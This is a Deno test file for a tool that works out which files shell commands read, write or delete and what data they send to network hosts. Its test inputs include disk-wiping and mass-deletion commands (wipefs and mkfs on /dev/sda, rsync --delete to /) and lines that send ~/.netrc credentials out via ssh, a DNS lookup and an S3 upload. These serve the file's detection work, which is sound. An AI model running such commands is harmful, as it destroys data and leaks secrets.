/** What programs do with what they are given. */
import { assert, assertEquals } from "@std/assert";
import { programOf } from "../../../lib/shell/programs/table.ts";
import { deletes, effectsOf, reads, writes } from "../support.ts";

Deno.test("programOf() knows programs by name, formatters by their beginning", () => {
  assert(programOf("curl") && programOf("mkfs.ext4"));
  assertEquals(programOf("toString"), undefined);
});

const READING: readonly (readonly [string, readonly string[]])[] = [
  ["cat -n a b", ["a", "b"]],
  ["head -n 3 a", ["a"]],
  ["grep -e x a", ["a"]],
  ["grep x a", ["a"]],
  ["awk -F: '{print}' a", ["a"]],
  ["sed -n 1p a", ["a"]],
  ["dd if=a", ["a"]],
  ["cp -r a b", ["a"]],
  ["tar czf x.tgz a", ["a"]],
  ["tar -C d -cf x.tar a", ["d/a"]],
  ["curl -d @a example.com", ["a"]],
  ["curl -F 'x=@a;type=text/plain' example.com", ["a"]],
  ["curl -T a example.com", ["a"]],
  ["wget --post-file=a example.com", ["a"]],
  ["scp a ada@example.com:", ["a"]],
  ["unheard-of a", ["a"]],
  ["uniq --skip-chars 3 a b", ["a"]],
  ["ls -l a", []],
  ["echo a", []],
];

for (const [statement, paths] of READING) {
  Deno.test(`${statement} reads ${paths.join(" ") || "nothing"}`, () => assertEquals(reads(statement), [...paths]));
}

const WRITING: readonly (readonly [string, readonly string[]])[] = [
  ["tee -a a b", ["a", "b"]],
  ["dd of=a", ["a"]],
  ["sed -i s/x/y/ a", ["a"]],
  ["curl -o a example.com", ["a"]],
  ["curl -O example.com/d/a?x", ["a"]],
  ["wget -O a example.com", ["a"]],
  ["truncate -s 0 a", ["a"]],
  ["wipefs /dev/sda", []],
  ["wipefs -a /dev/sda", ["/dev/sda"]],
  ["mkfs.ext4 -n /dev/sda", []],
  ["mkfs.vfat -n X /dev/sda", ["/dev/sda"]],
  ["fdisk -l /dev/sda", []],
  ["fdisk /dev/sda <<< w", ["/dev/sda"]],
  ["7z x a.7z -ob", ["b/…entry"]],
  ["cpio -i -D b < a", ["b/…entry"]],
  ["gzip a", ["a.gz", "a"]],
  ["gzip -k a", ["a.gz"]],
  ["zstd a", ["a.zst"]],
  ["bzip2 a", ["a.bz2", "a"]],
  ["bzip2 -t a.bz2", []],
  ["pbzip2 --test a.bz2", []],
  ["gzip -l a.gz", []],
  ["gunzip -t a.gz", []],
  ["crontab a", ["/var/spool/cron/me"]],
  ["crontab -l", []],
];

for (const [statement, paths] of WRITING) {
  Deno.test(`${statement} writes ${paths.join(" ") || "nothing"}`, () => assertEquals(writes(statement), [...paths]));
}

const DELETING: readonly (readonly [string, readonly string[]])[] = [
  ["rm -f a -- -b", ["a", "-b"]],
  ["find a -delete", ["a"]],
  ["find a -name '*.o' -delete", ["a/…entry/*.o"]],
  ["find a -size +1M -delete", ["a/…entry"]],
  ["find ~ -size +1M -delete", ["~/…entry*", "~"]],
  ["find a ! -name '*.md' -delete", ["a"]],
  ["find a -type f -exec rm {} +", ["a/…entry*", "a"]],
  ["find a -type d -exec rmdir {} +", ["a", "a/…entry*"]],
  ["find . -type f -exec rm {} +", ["…entry*/…entry*", "…entry*", ".", "…entry*"]],
  ["find . -maxdepth 1 -type f -exec rm {} +", ["…entry*"]],
  ["find a -type f | grep o | xargs rm", ["a/…entry"]],
  ["find a -type f -exec truncate -s0 {} +", ["a"]],
  ["for f in $(find a -type f); do rm $f; done", ["a/…entry*", "a"]],
  ["ls a | xargs -I{} rm a/{}", ["a/…listed"]],
  ["ls ~/a | xargs -I{} rm ~/a/{}", ["~/a/…entry*", "~/a"]],
  ["fd -u . a -x rm", ["a/…entry*", "a"]],
  ["fd -e o . a -x rm", ["a/…entry/*.o"]],
  ["rimraf a", ["a"]],
  ["rm -r 'a/**/*'", ["a/*"]],
  ["mkdir n; rsync -a --delete n/ b/", ["b"]],
  ["mkdir n; touch n/x; rsync -a --delete n/ b/", []],
  ["rsync -an --delete a/ /", []],
  ["rclone sync empty r:b", ["r:b"]],
  ["rclone sync a r:b", []],
  ["ssh h <<< 'rm a'", ["a"]],
  ["ansible h -a 'rm a'", ["a"]],
  ["ansible h -m file -a 'path=/a state=absent'", ["/a"]],
  ["7z x a.7z -ob", []],
  ["Remove-Item -Recurse a", ["a", "a"]],
  ["Get-ChildItem ~ | Remove-Item", ["~/…entry", "~/…entry"]],
  ["find . -name -delete -print", []],
  ["find a -exec echo -delete ';'", []],
  ["rsync -a --delete a/ /", ["/"]],
  ["rsync -a --delete a/ b/", []],
  ["shred -u a", ["a"]],
];

for (const [statement, paths] of DELETING) {
  Deno.test(`${statement} deletes ${paths.join(" ") || "nothing"}`, () => assertEquals(deletes(statement), [...paths]));
}

Deno.test("sockets, uploads and look-ups send what flows into them", () => {
  const sent = (statement: string) => effectsOf("send", statement).map(({ host, text }) => [host, text]);
  assertEquals(sent("echo hi | nc example.com 99"), [["example.com", "hi\n"]]);
  assertEquals(sent("cat ~/.netrc | ssh example.com cat"), [["example.com", "\uE003"]]);
  assertEquals(sent("dig $(cat ~/.netrc).example.com"), [["\uE003.example.com", "\uE003.example.com"]]);
  assertEquals(sent("aws s3 cp ~/.netrc s3://b/k"), [["b", "\uE003"]]);
});
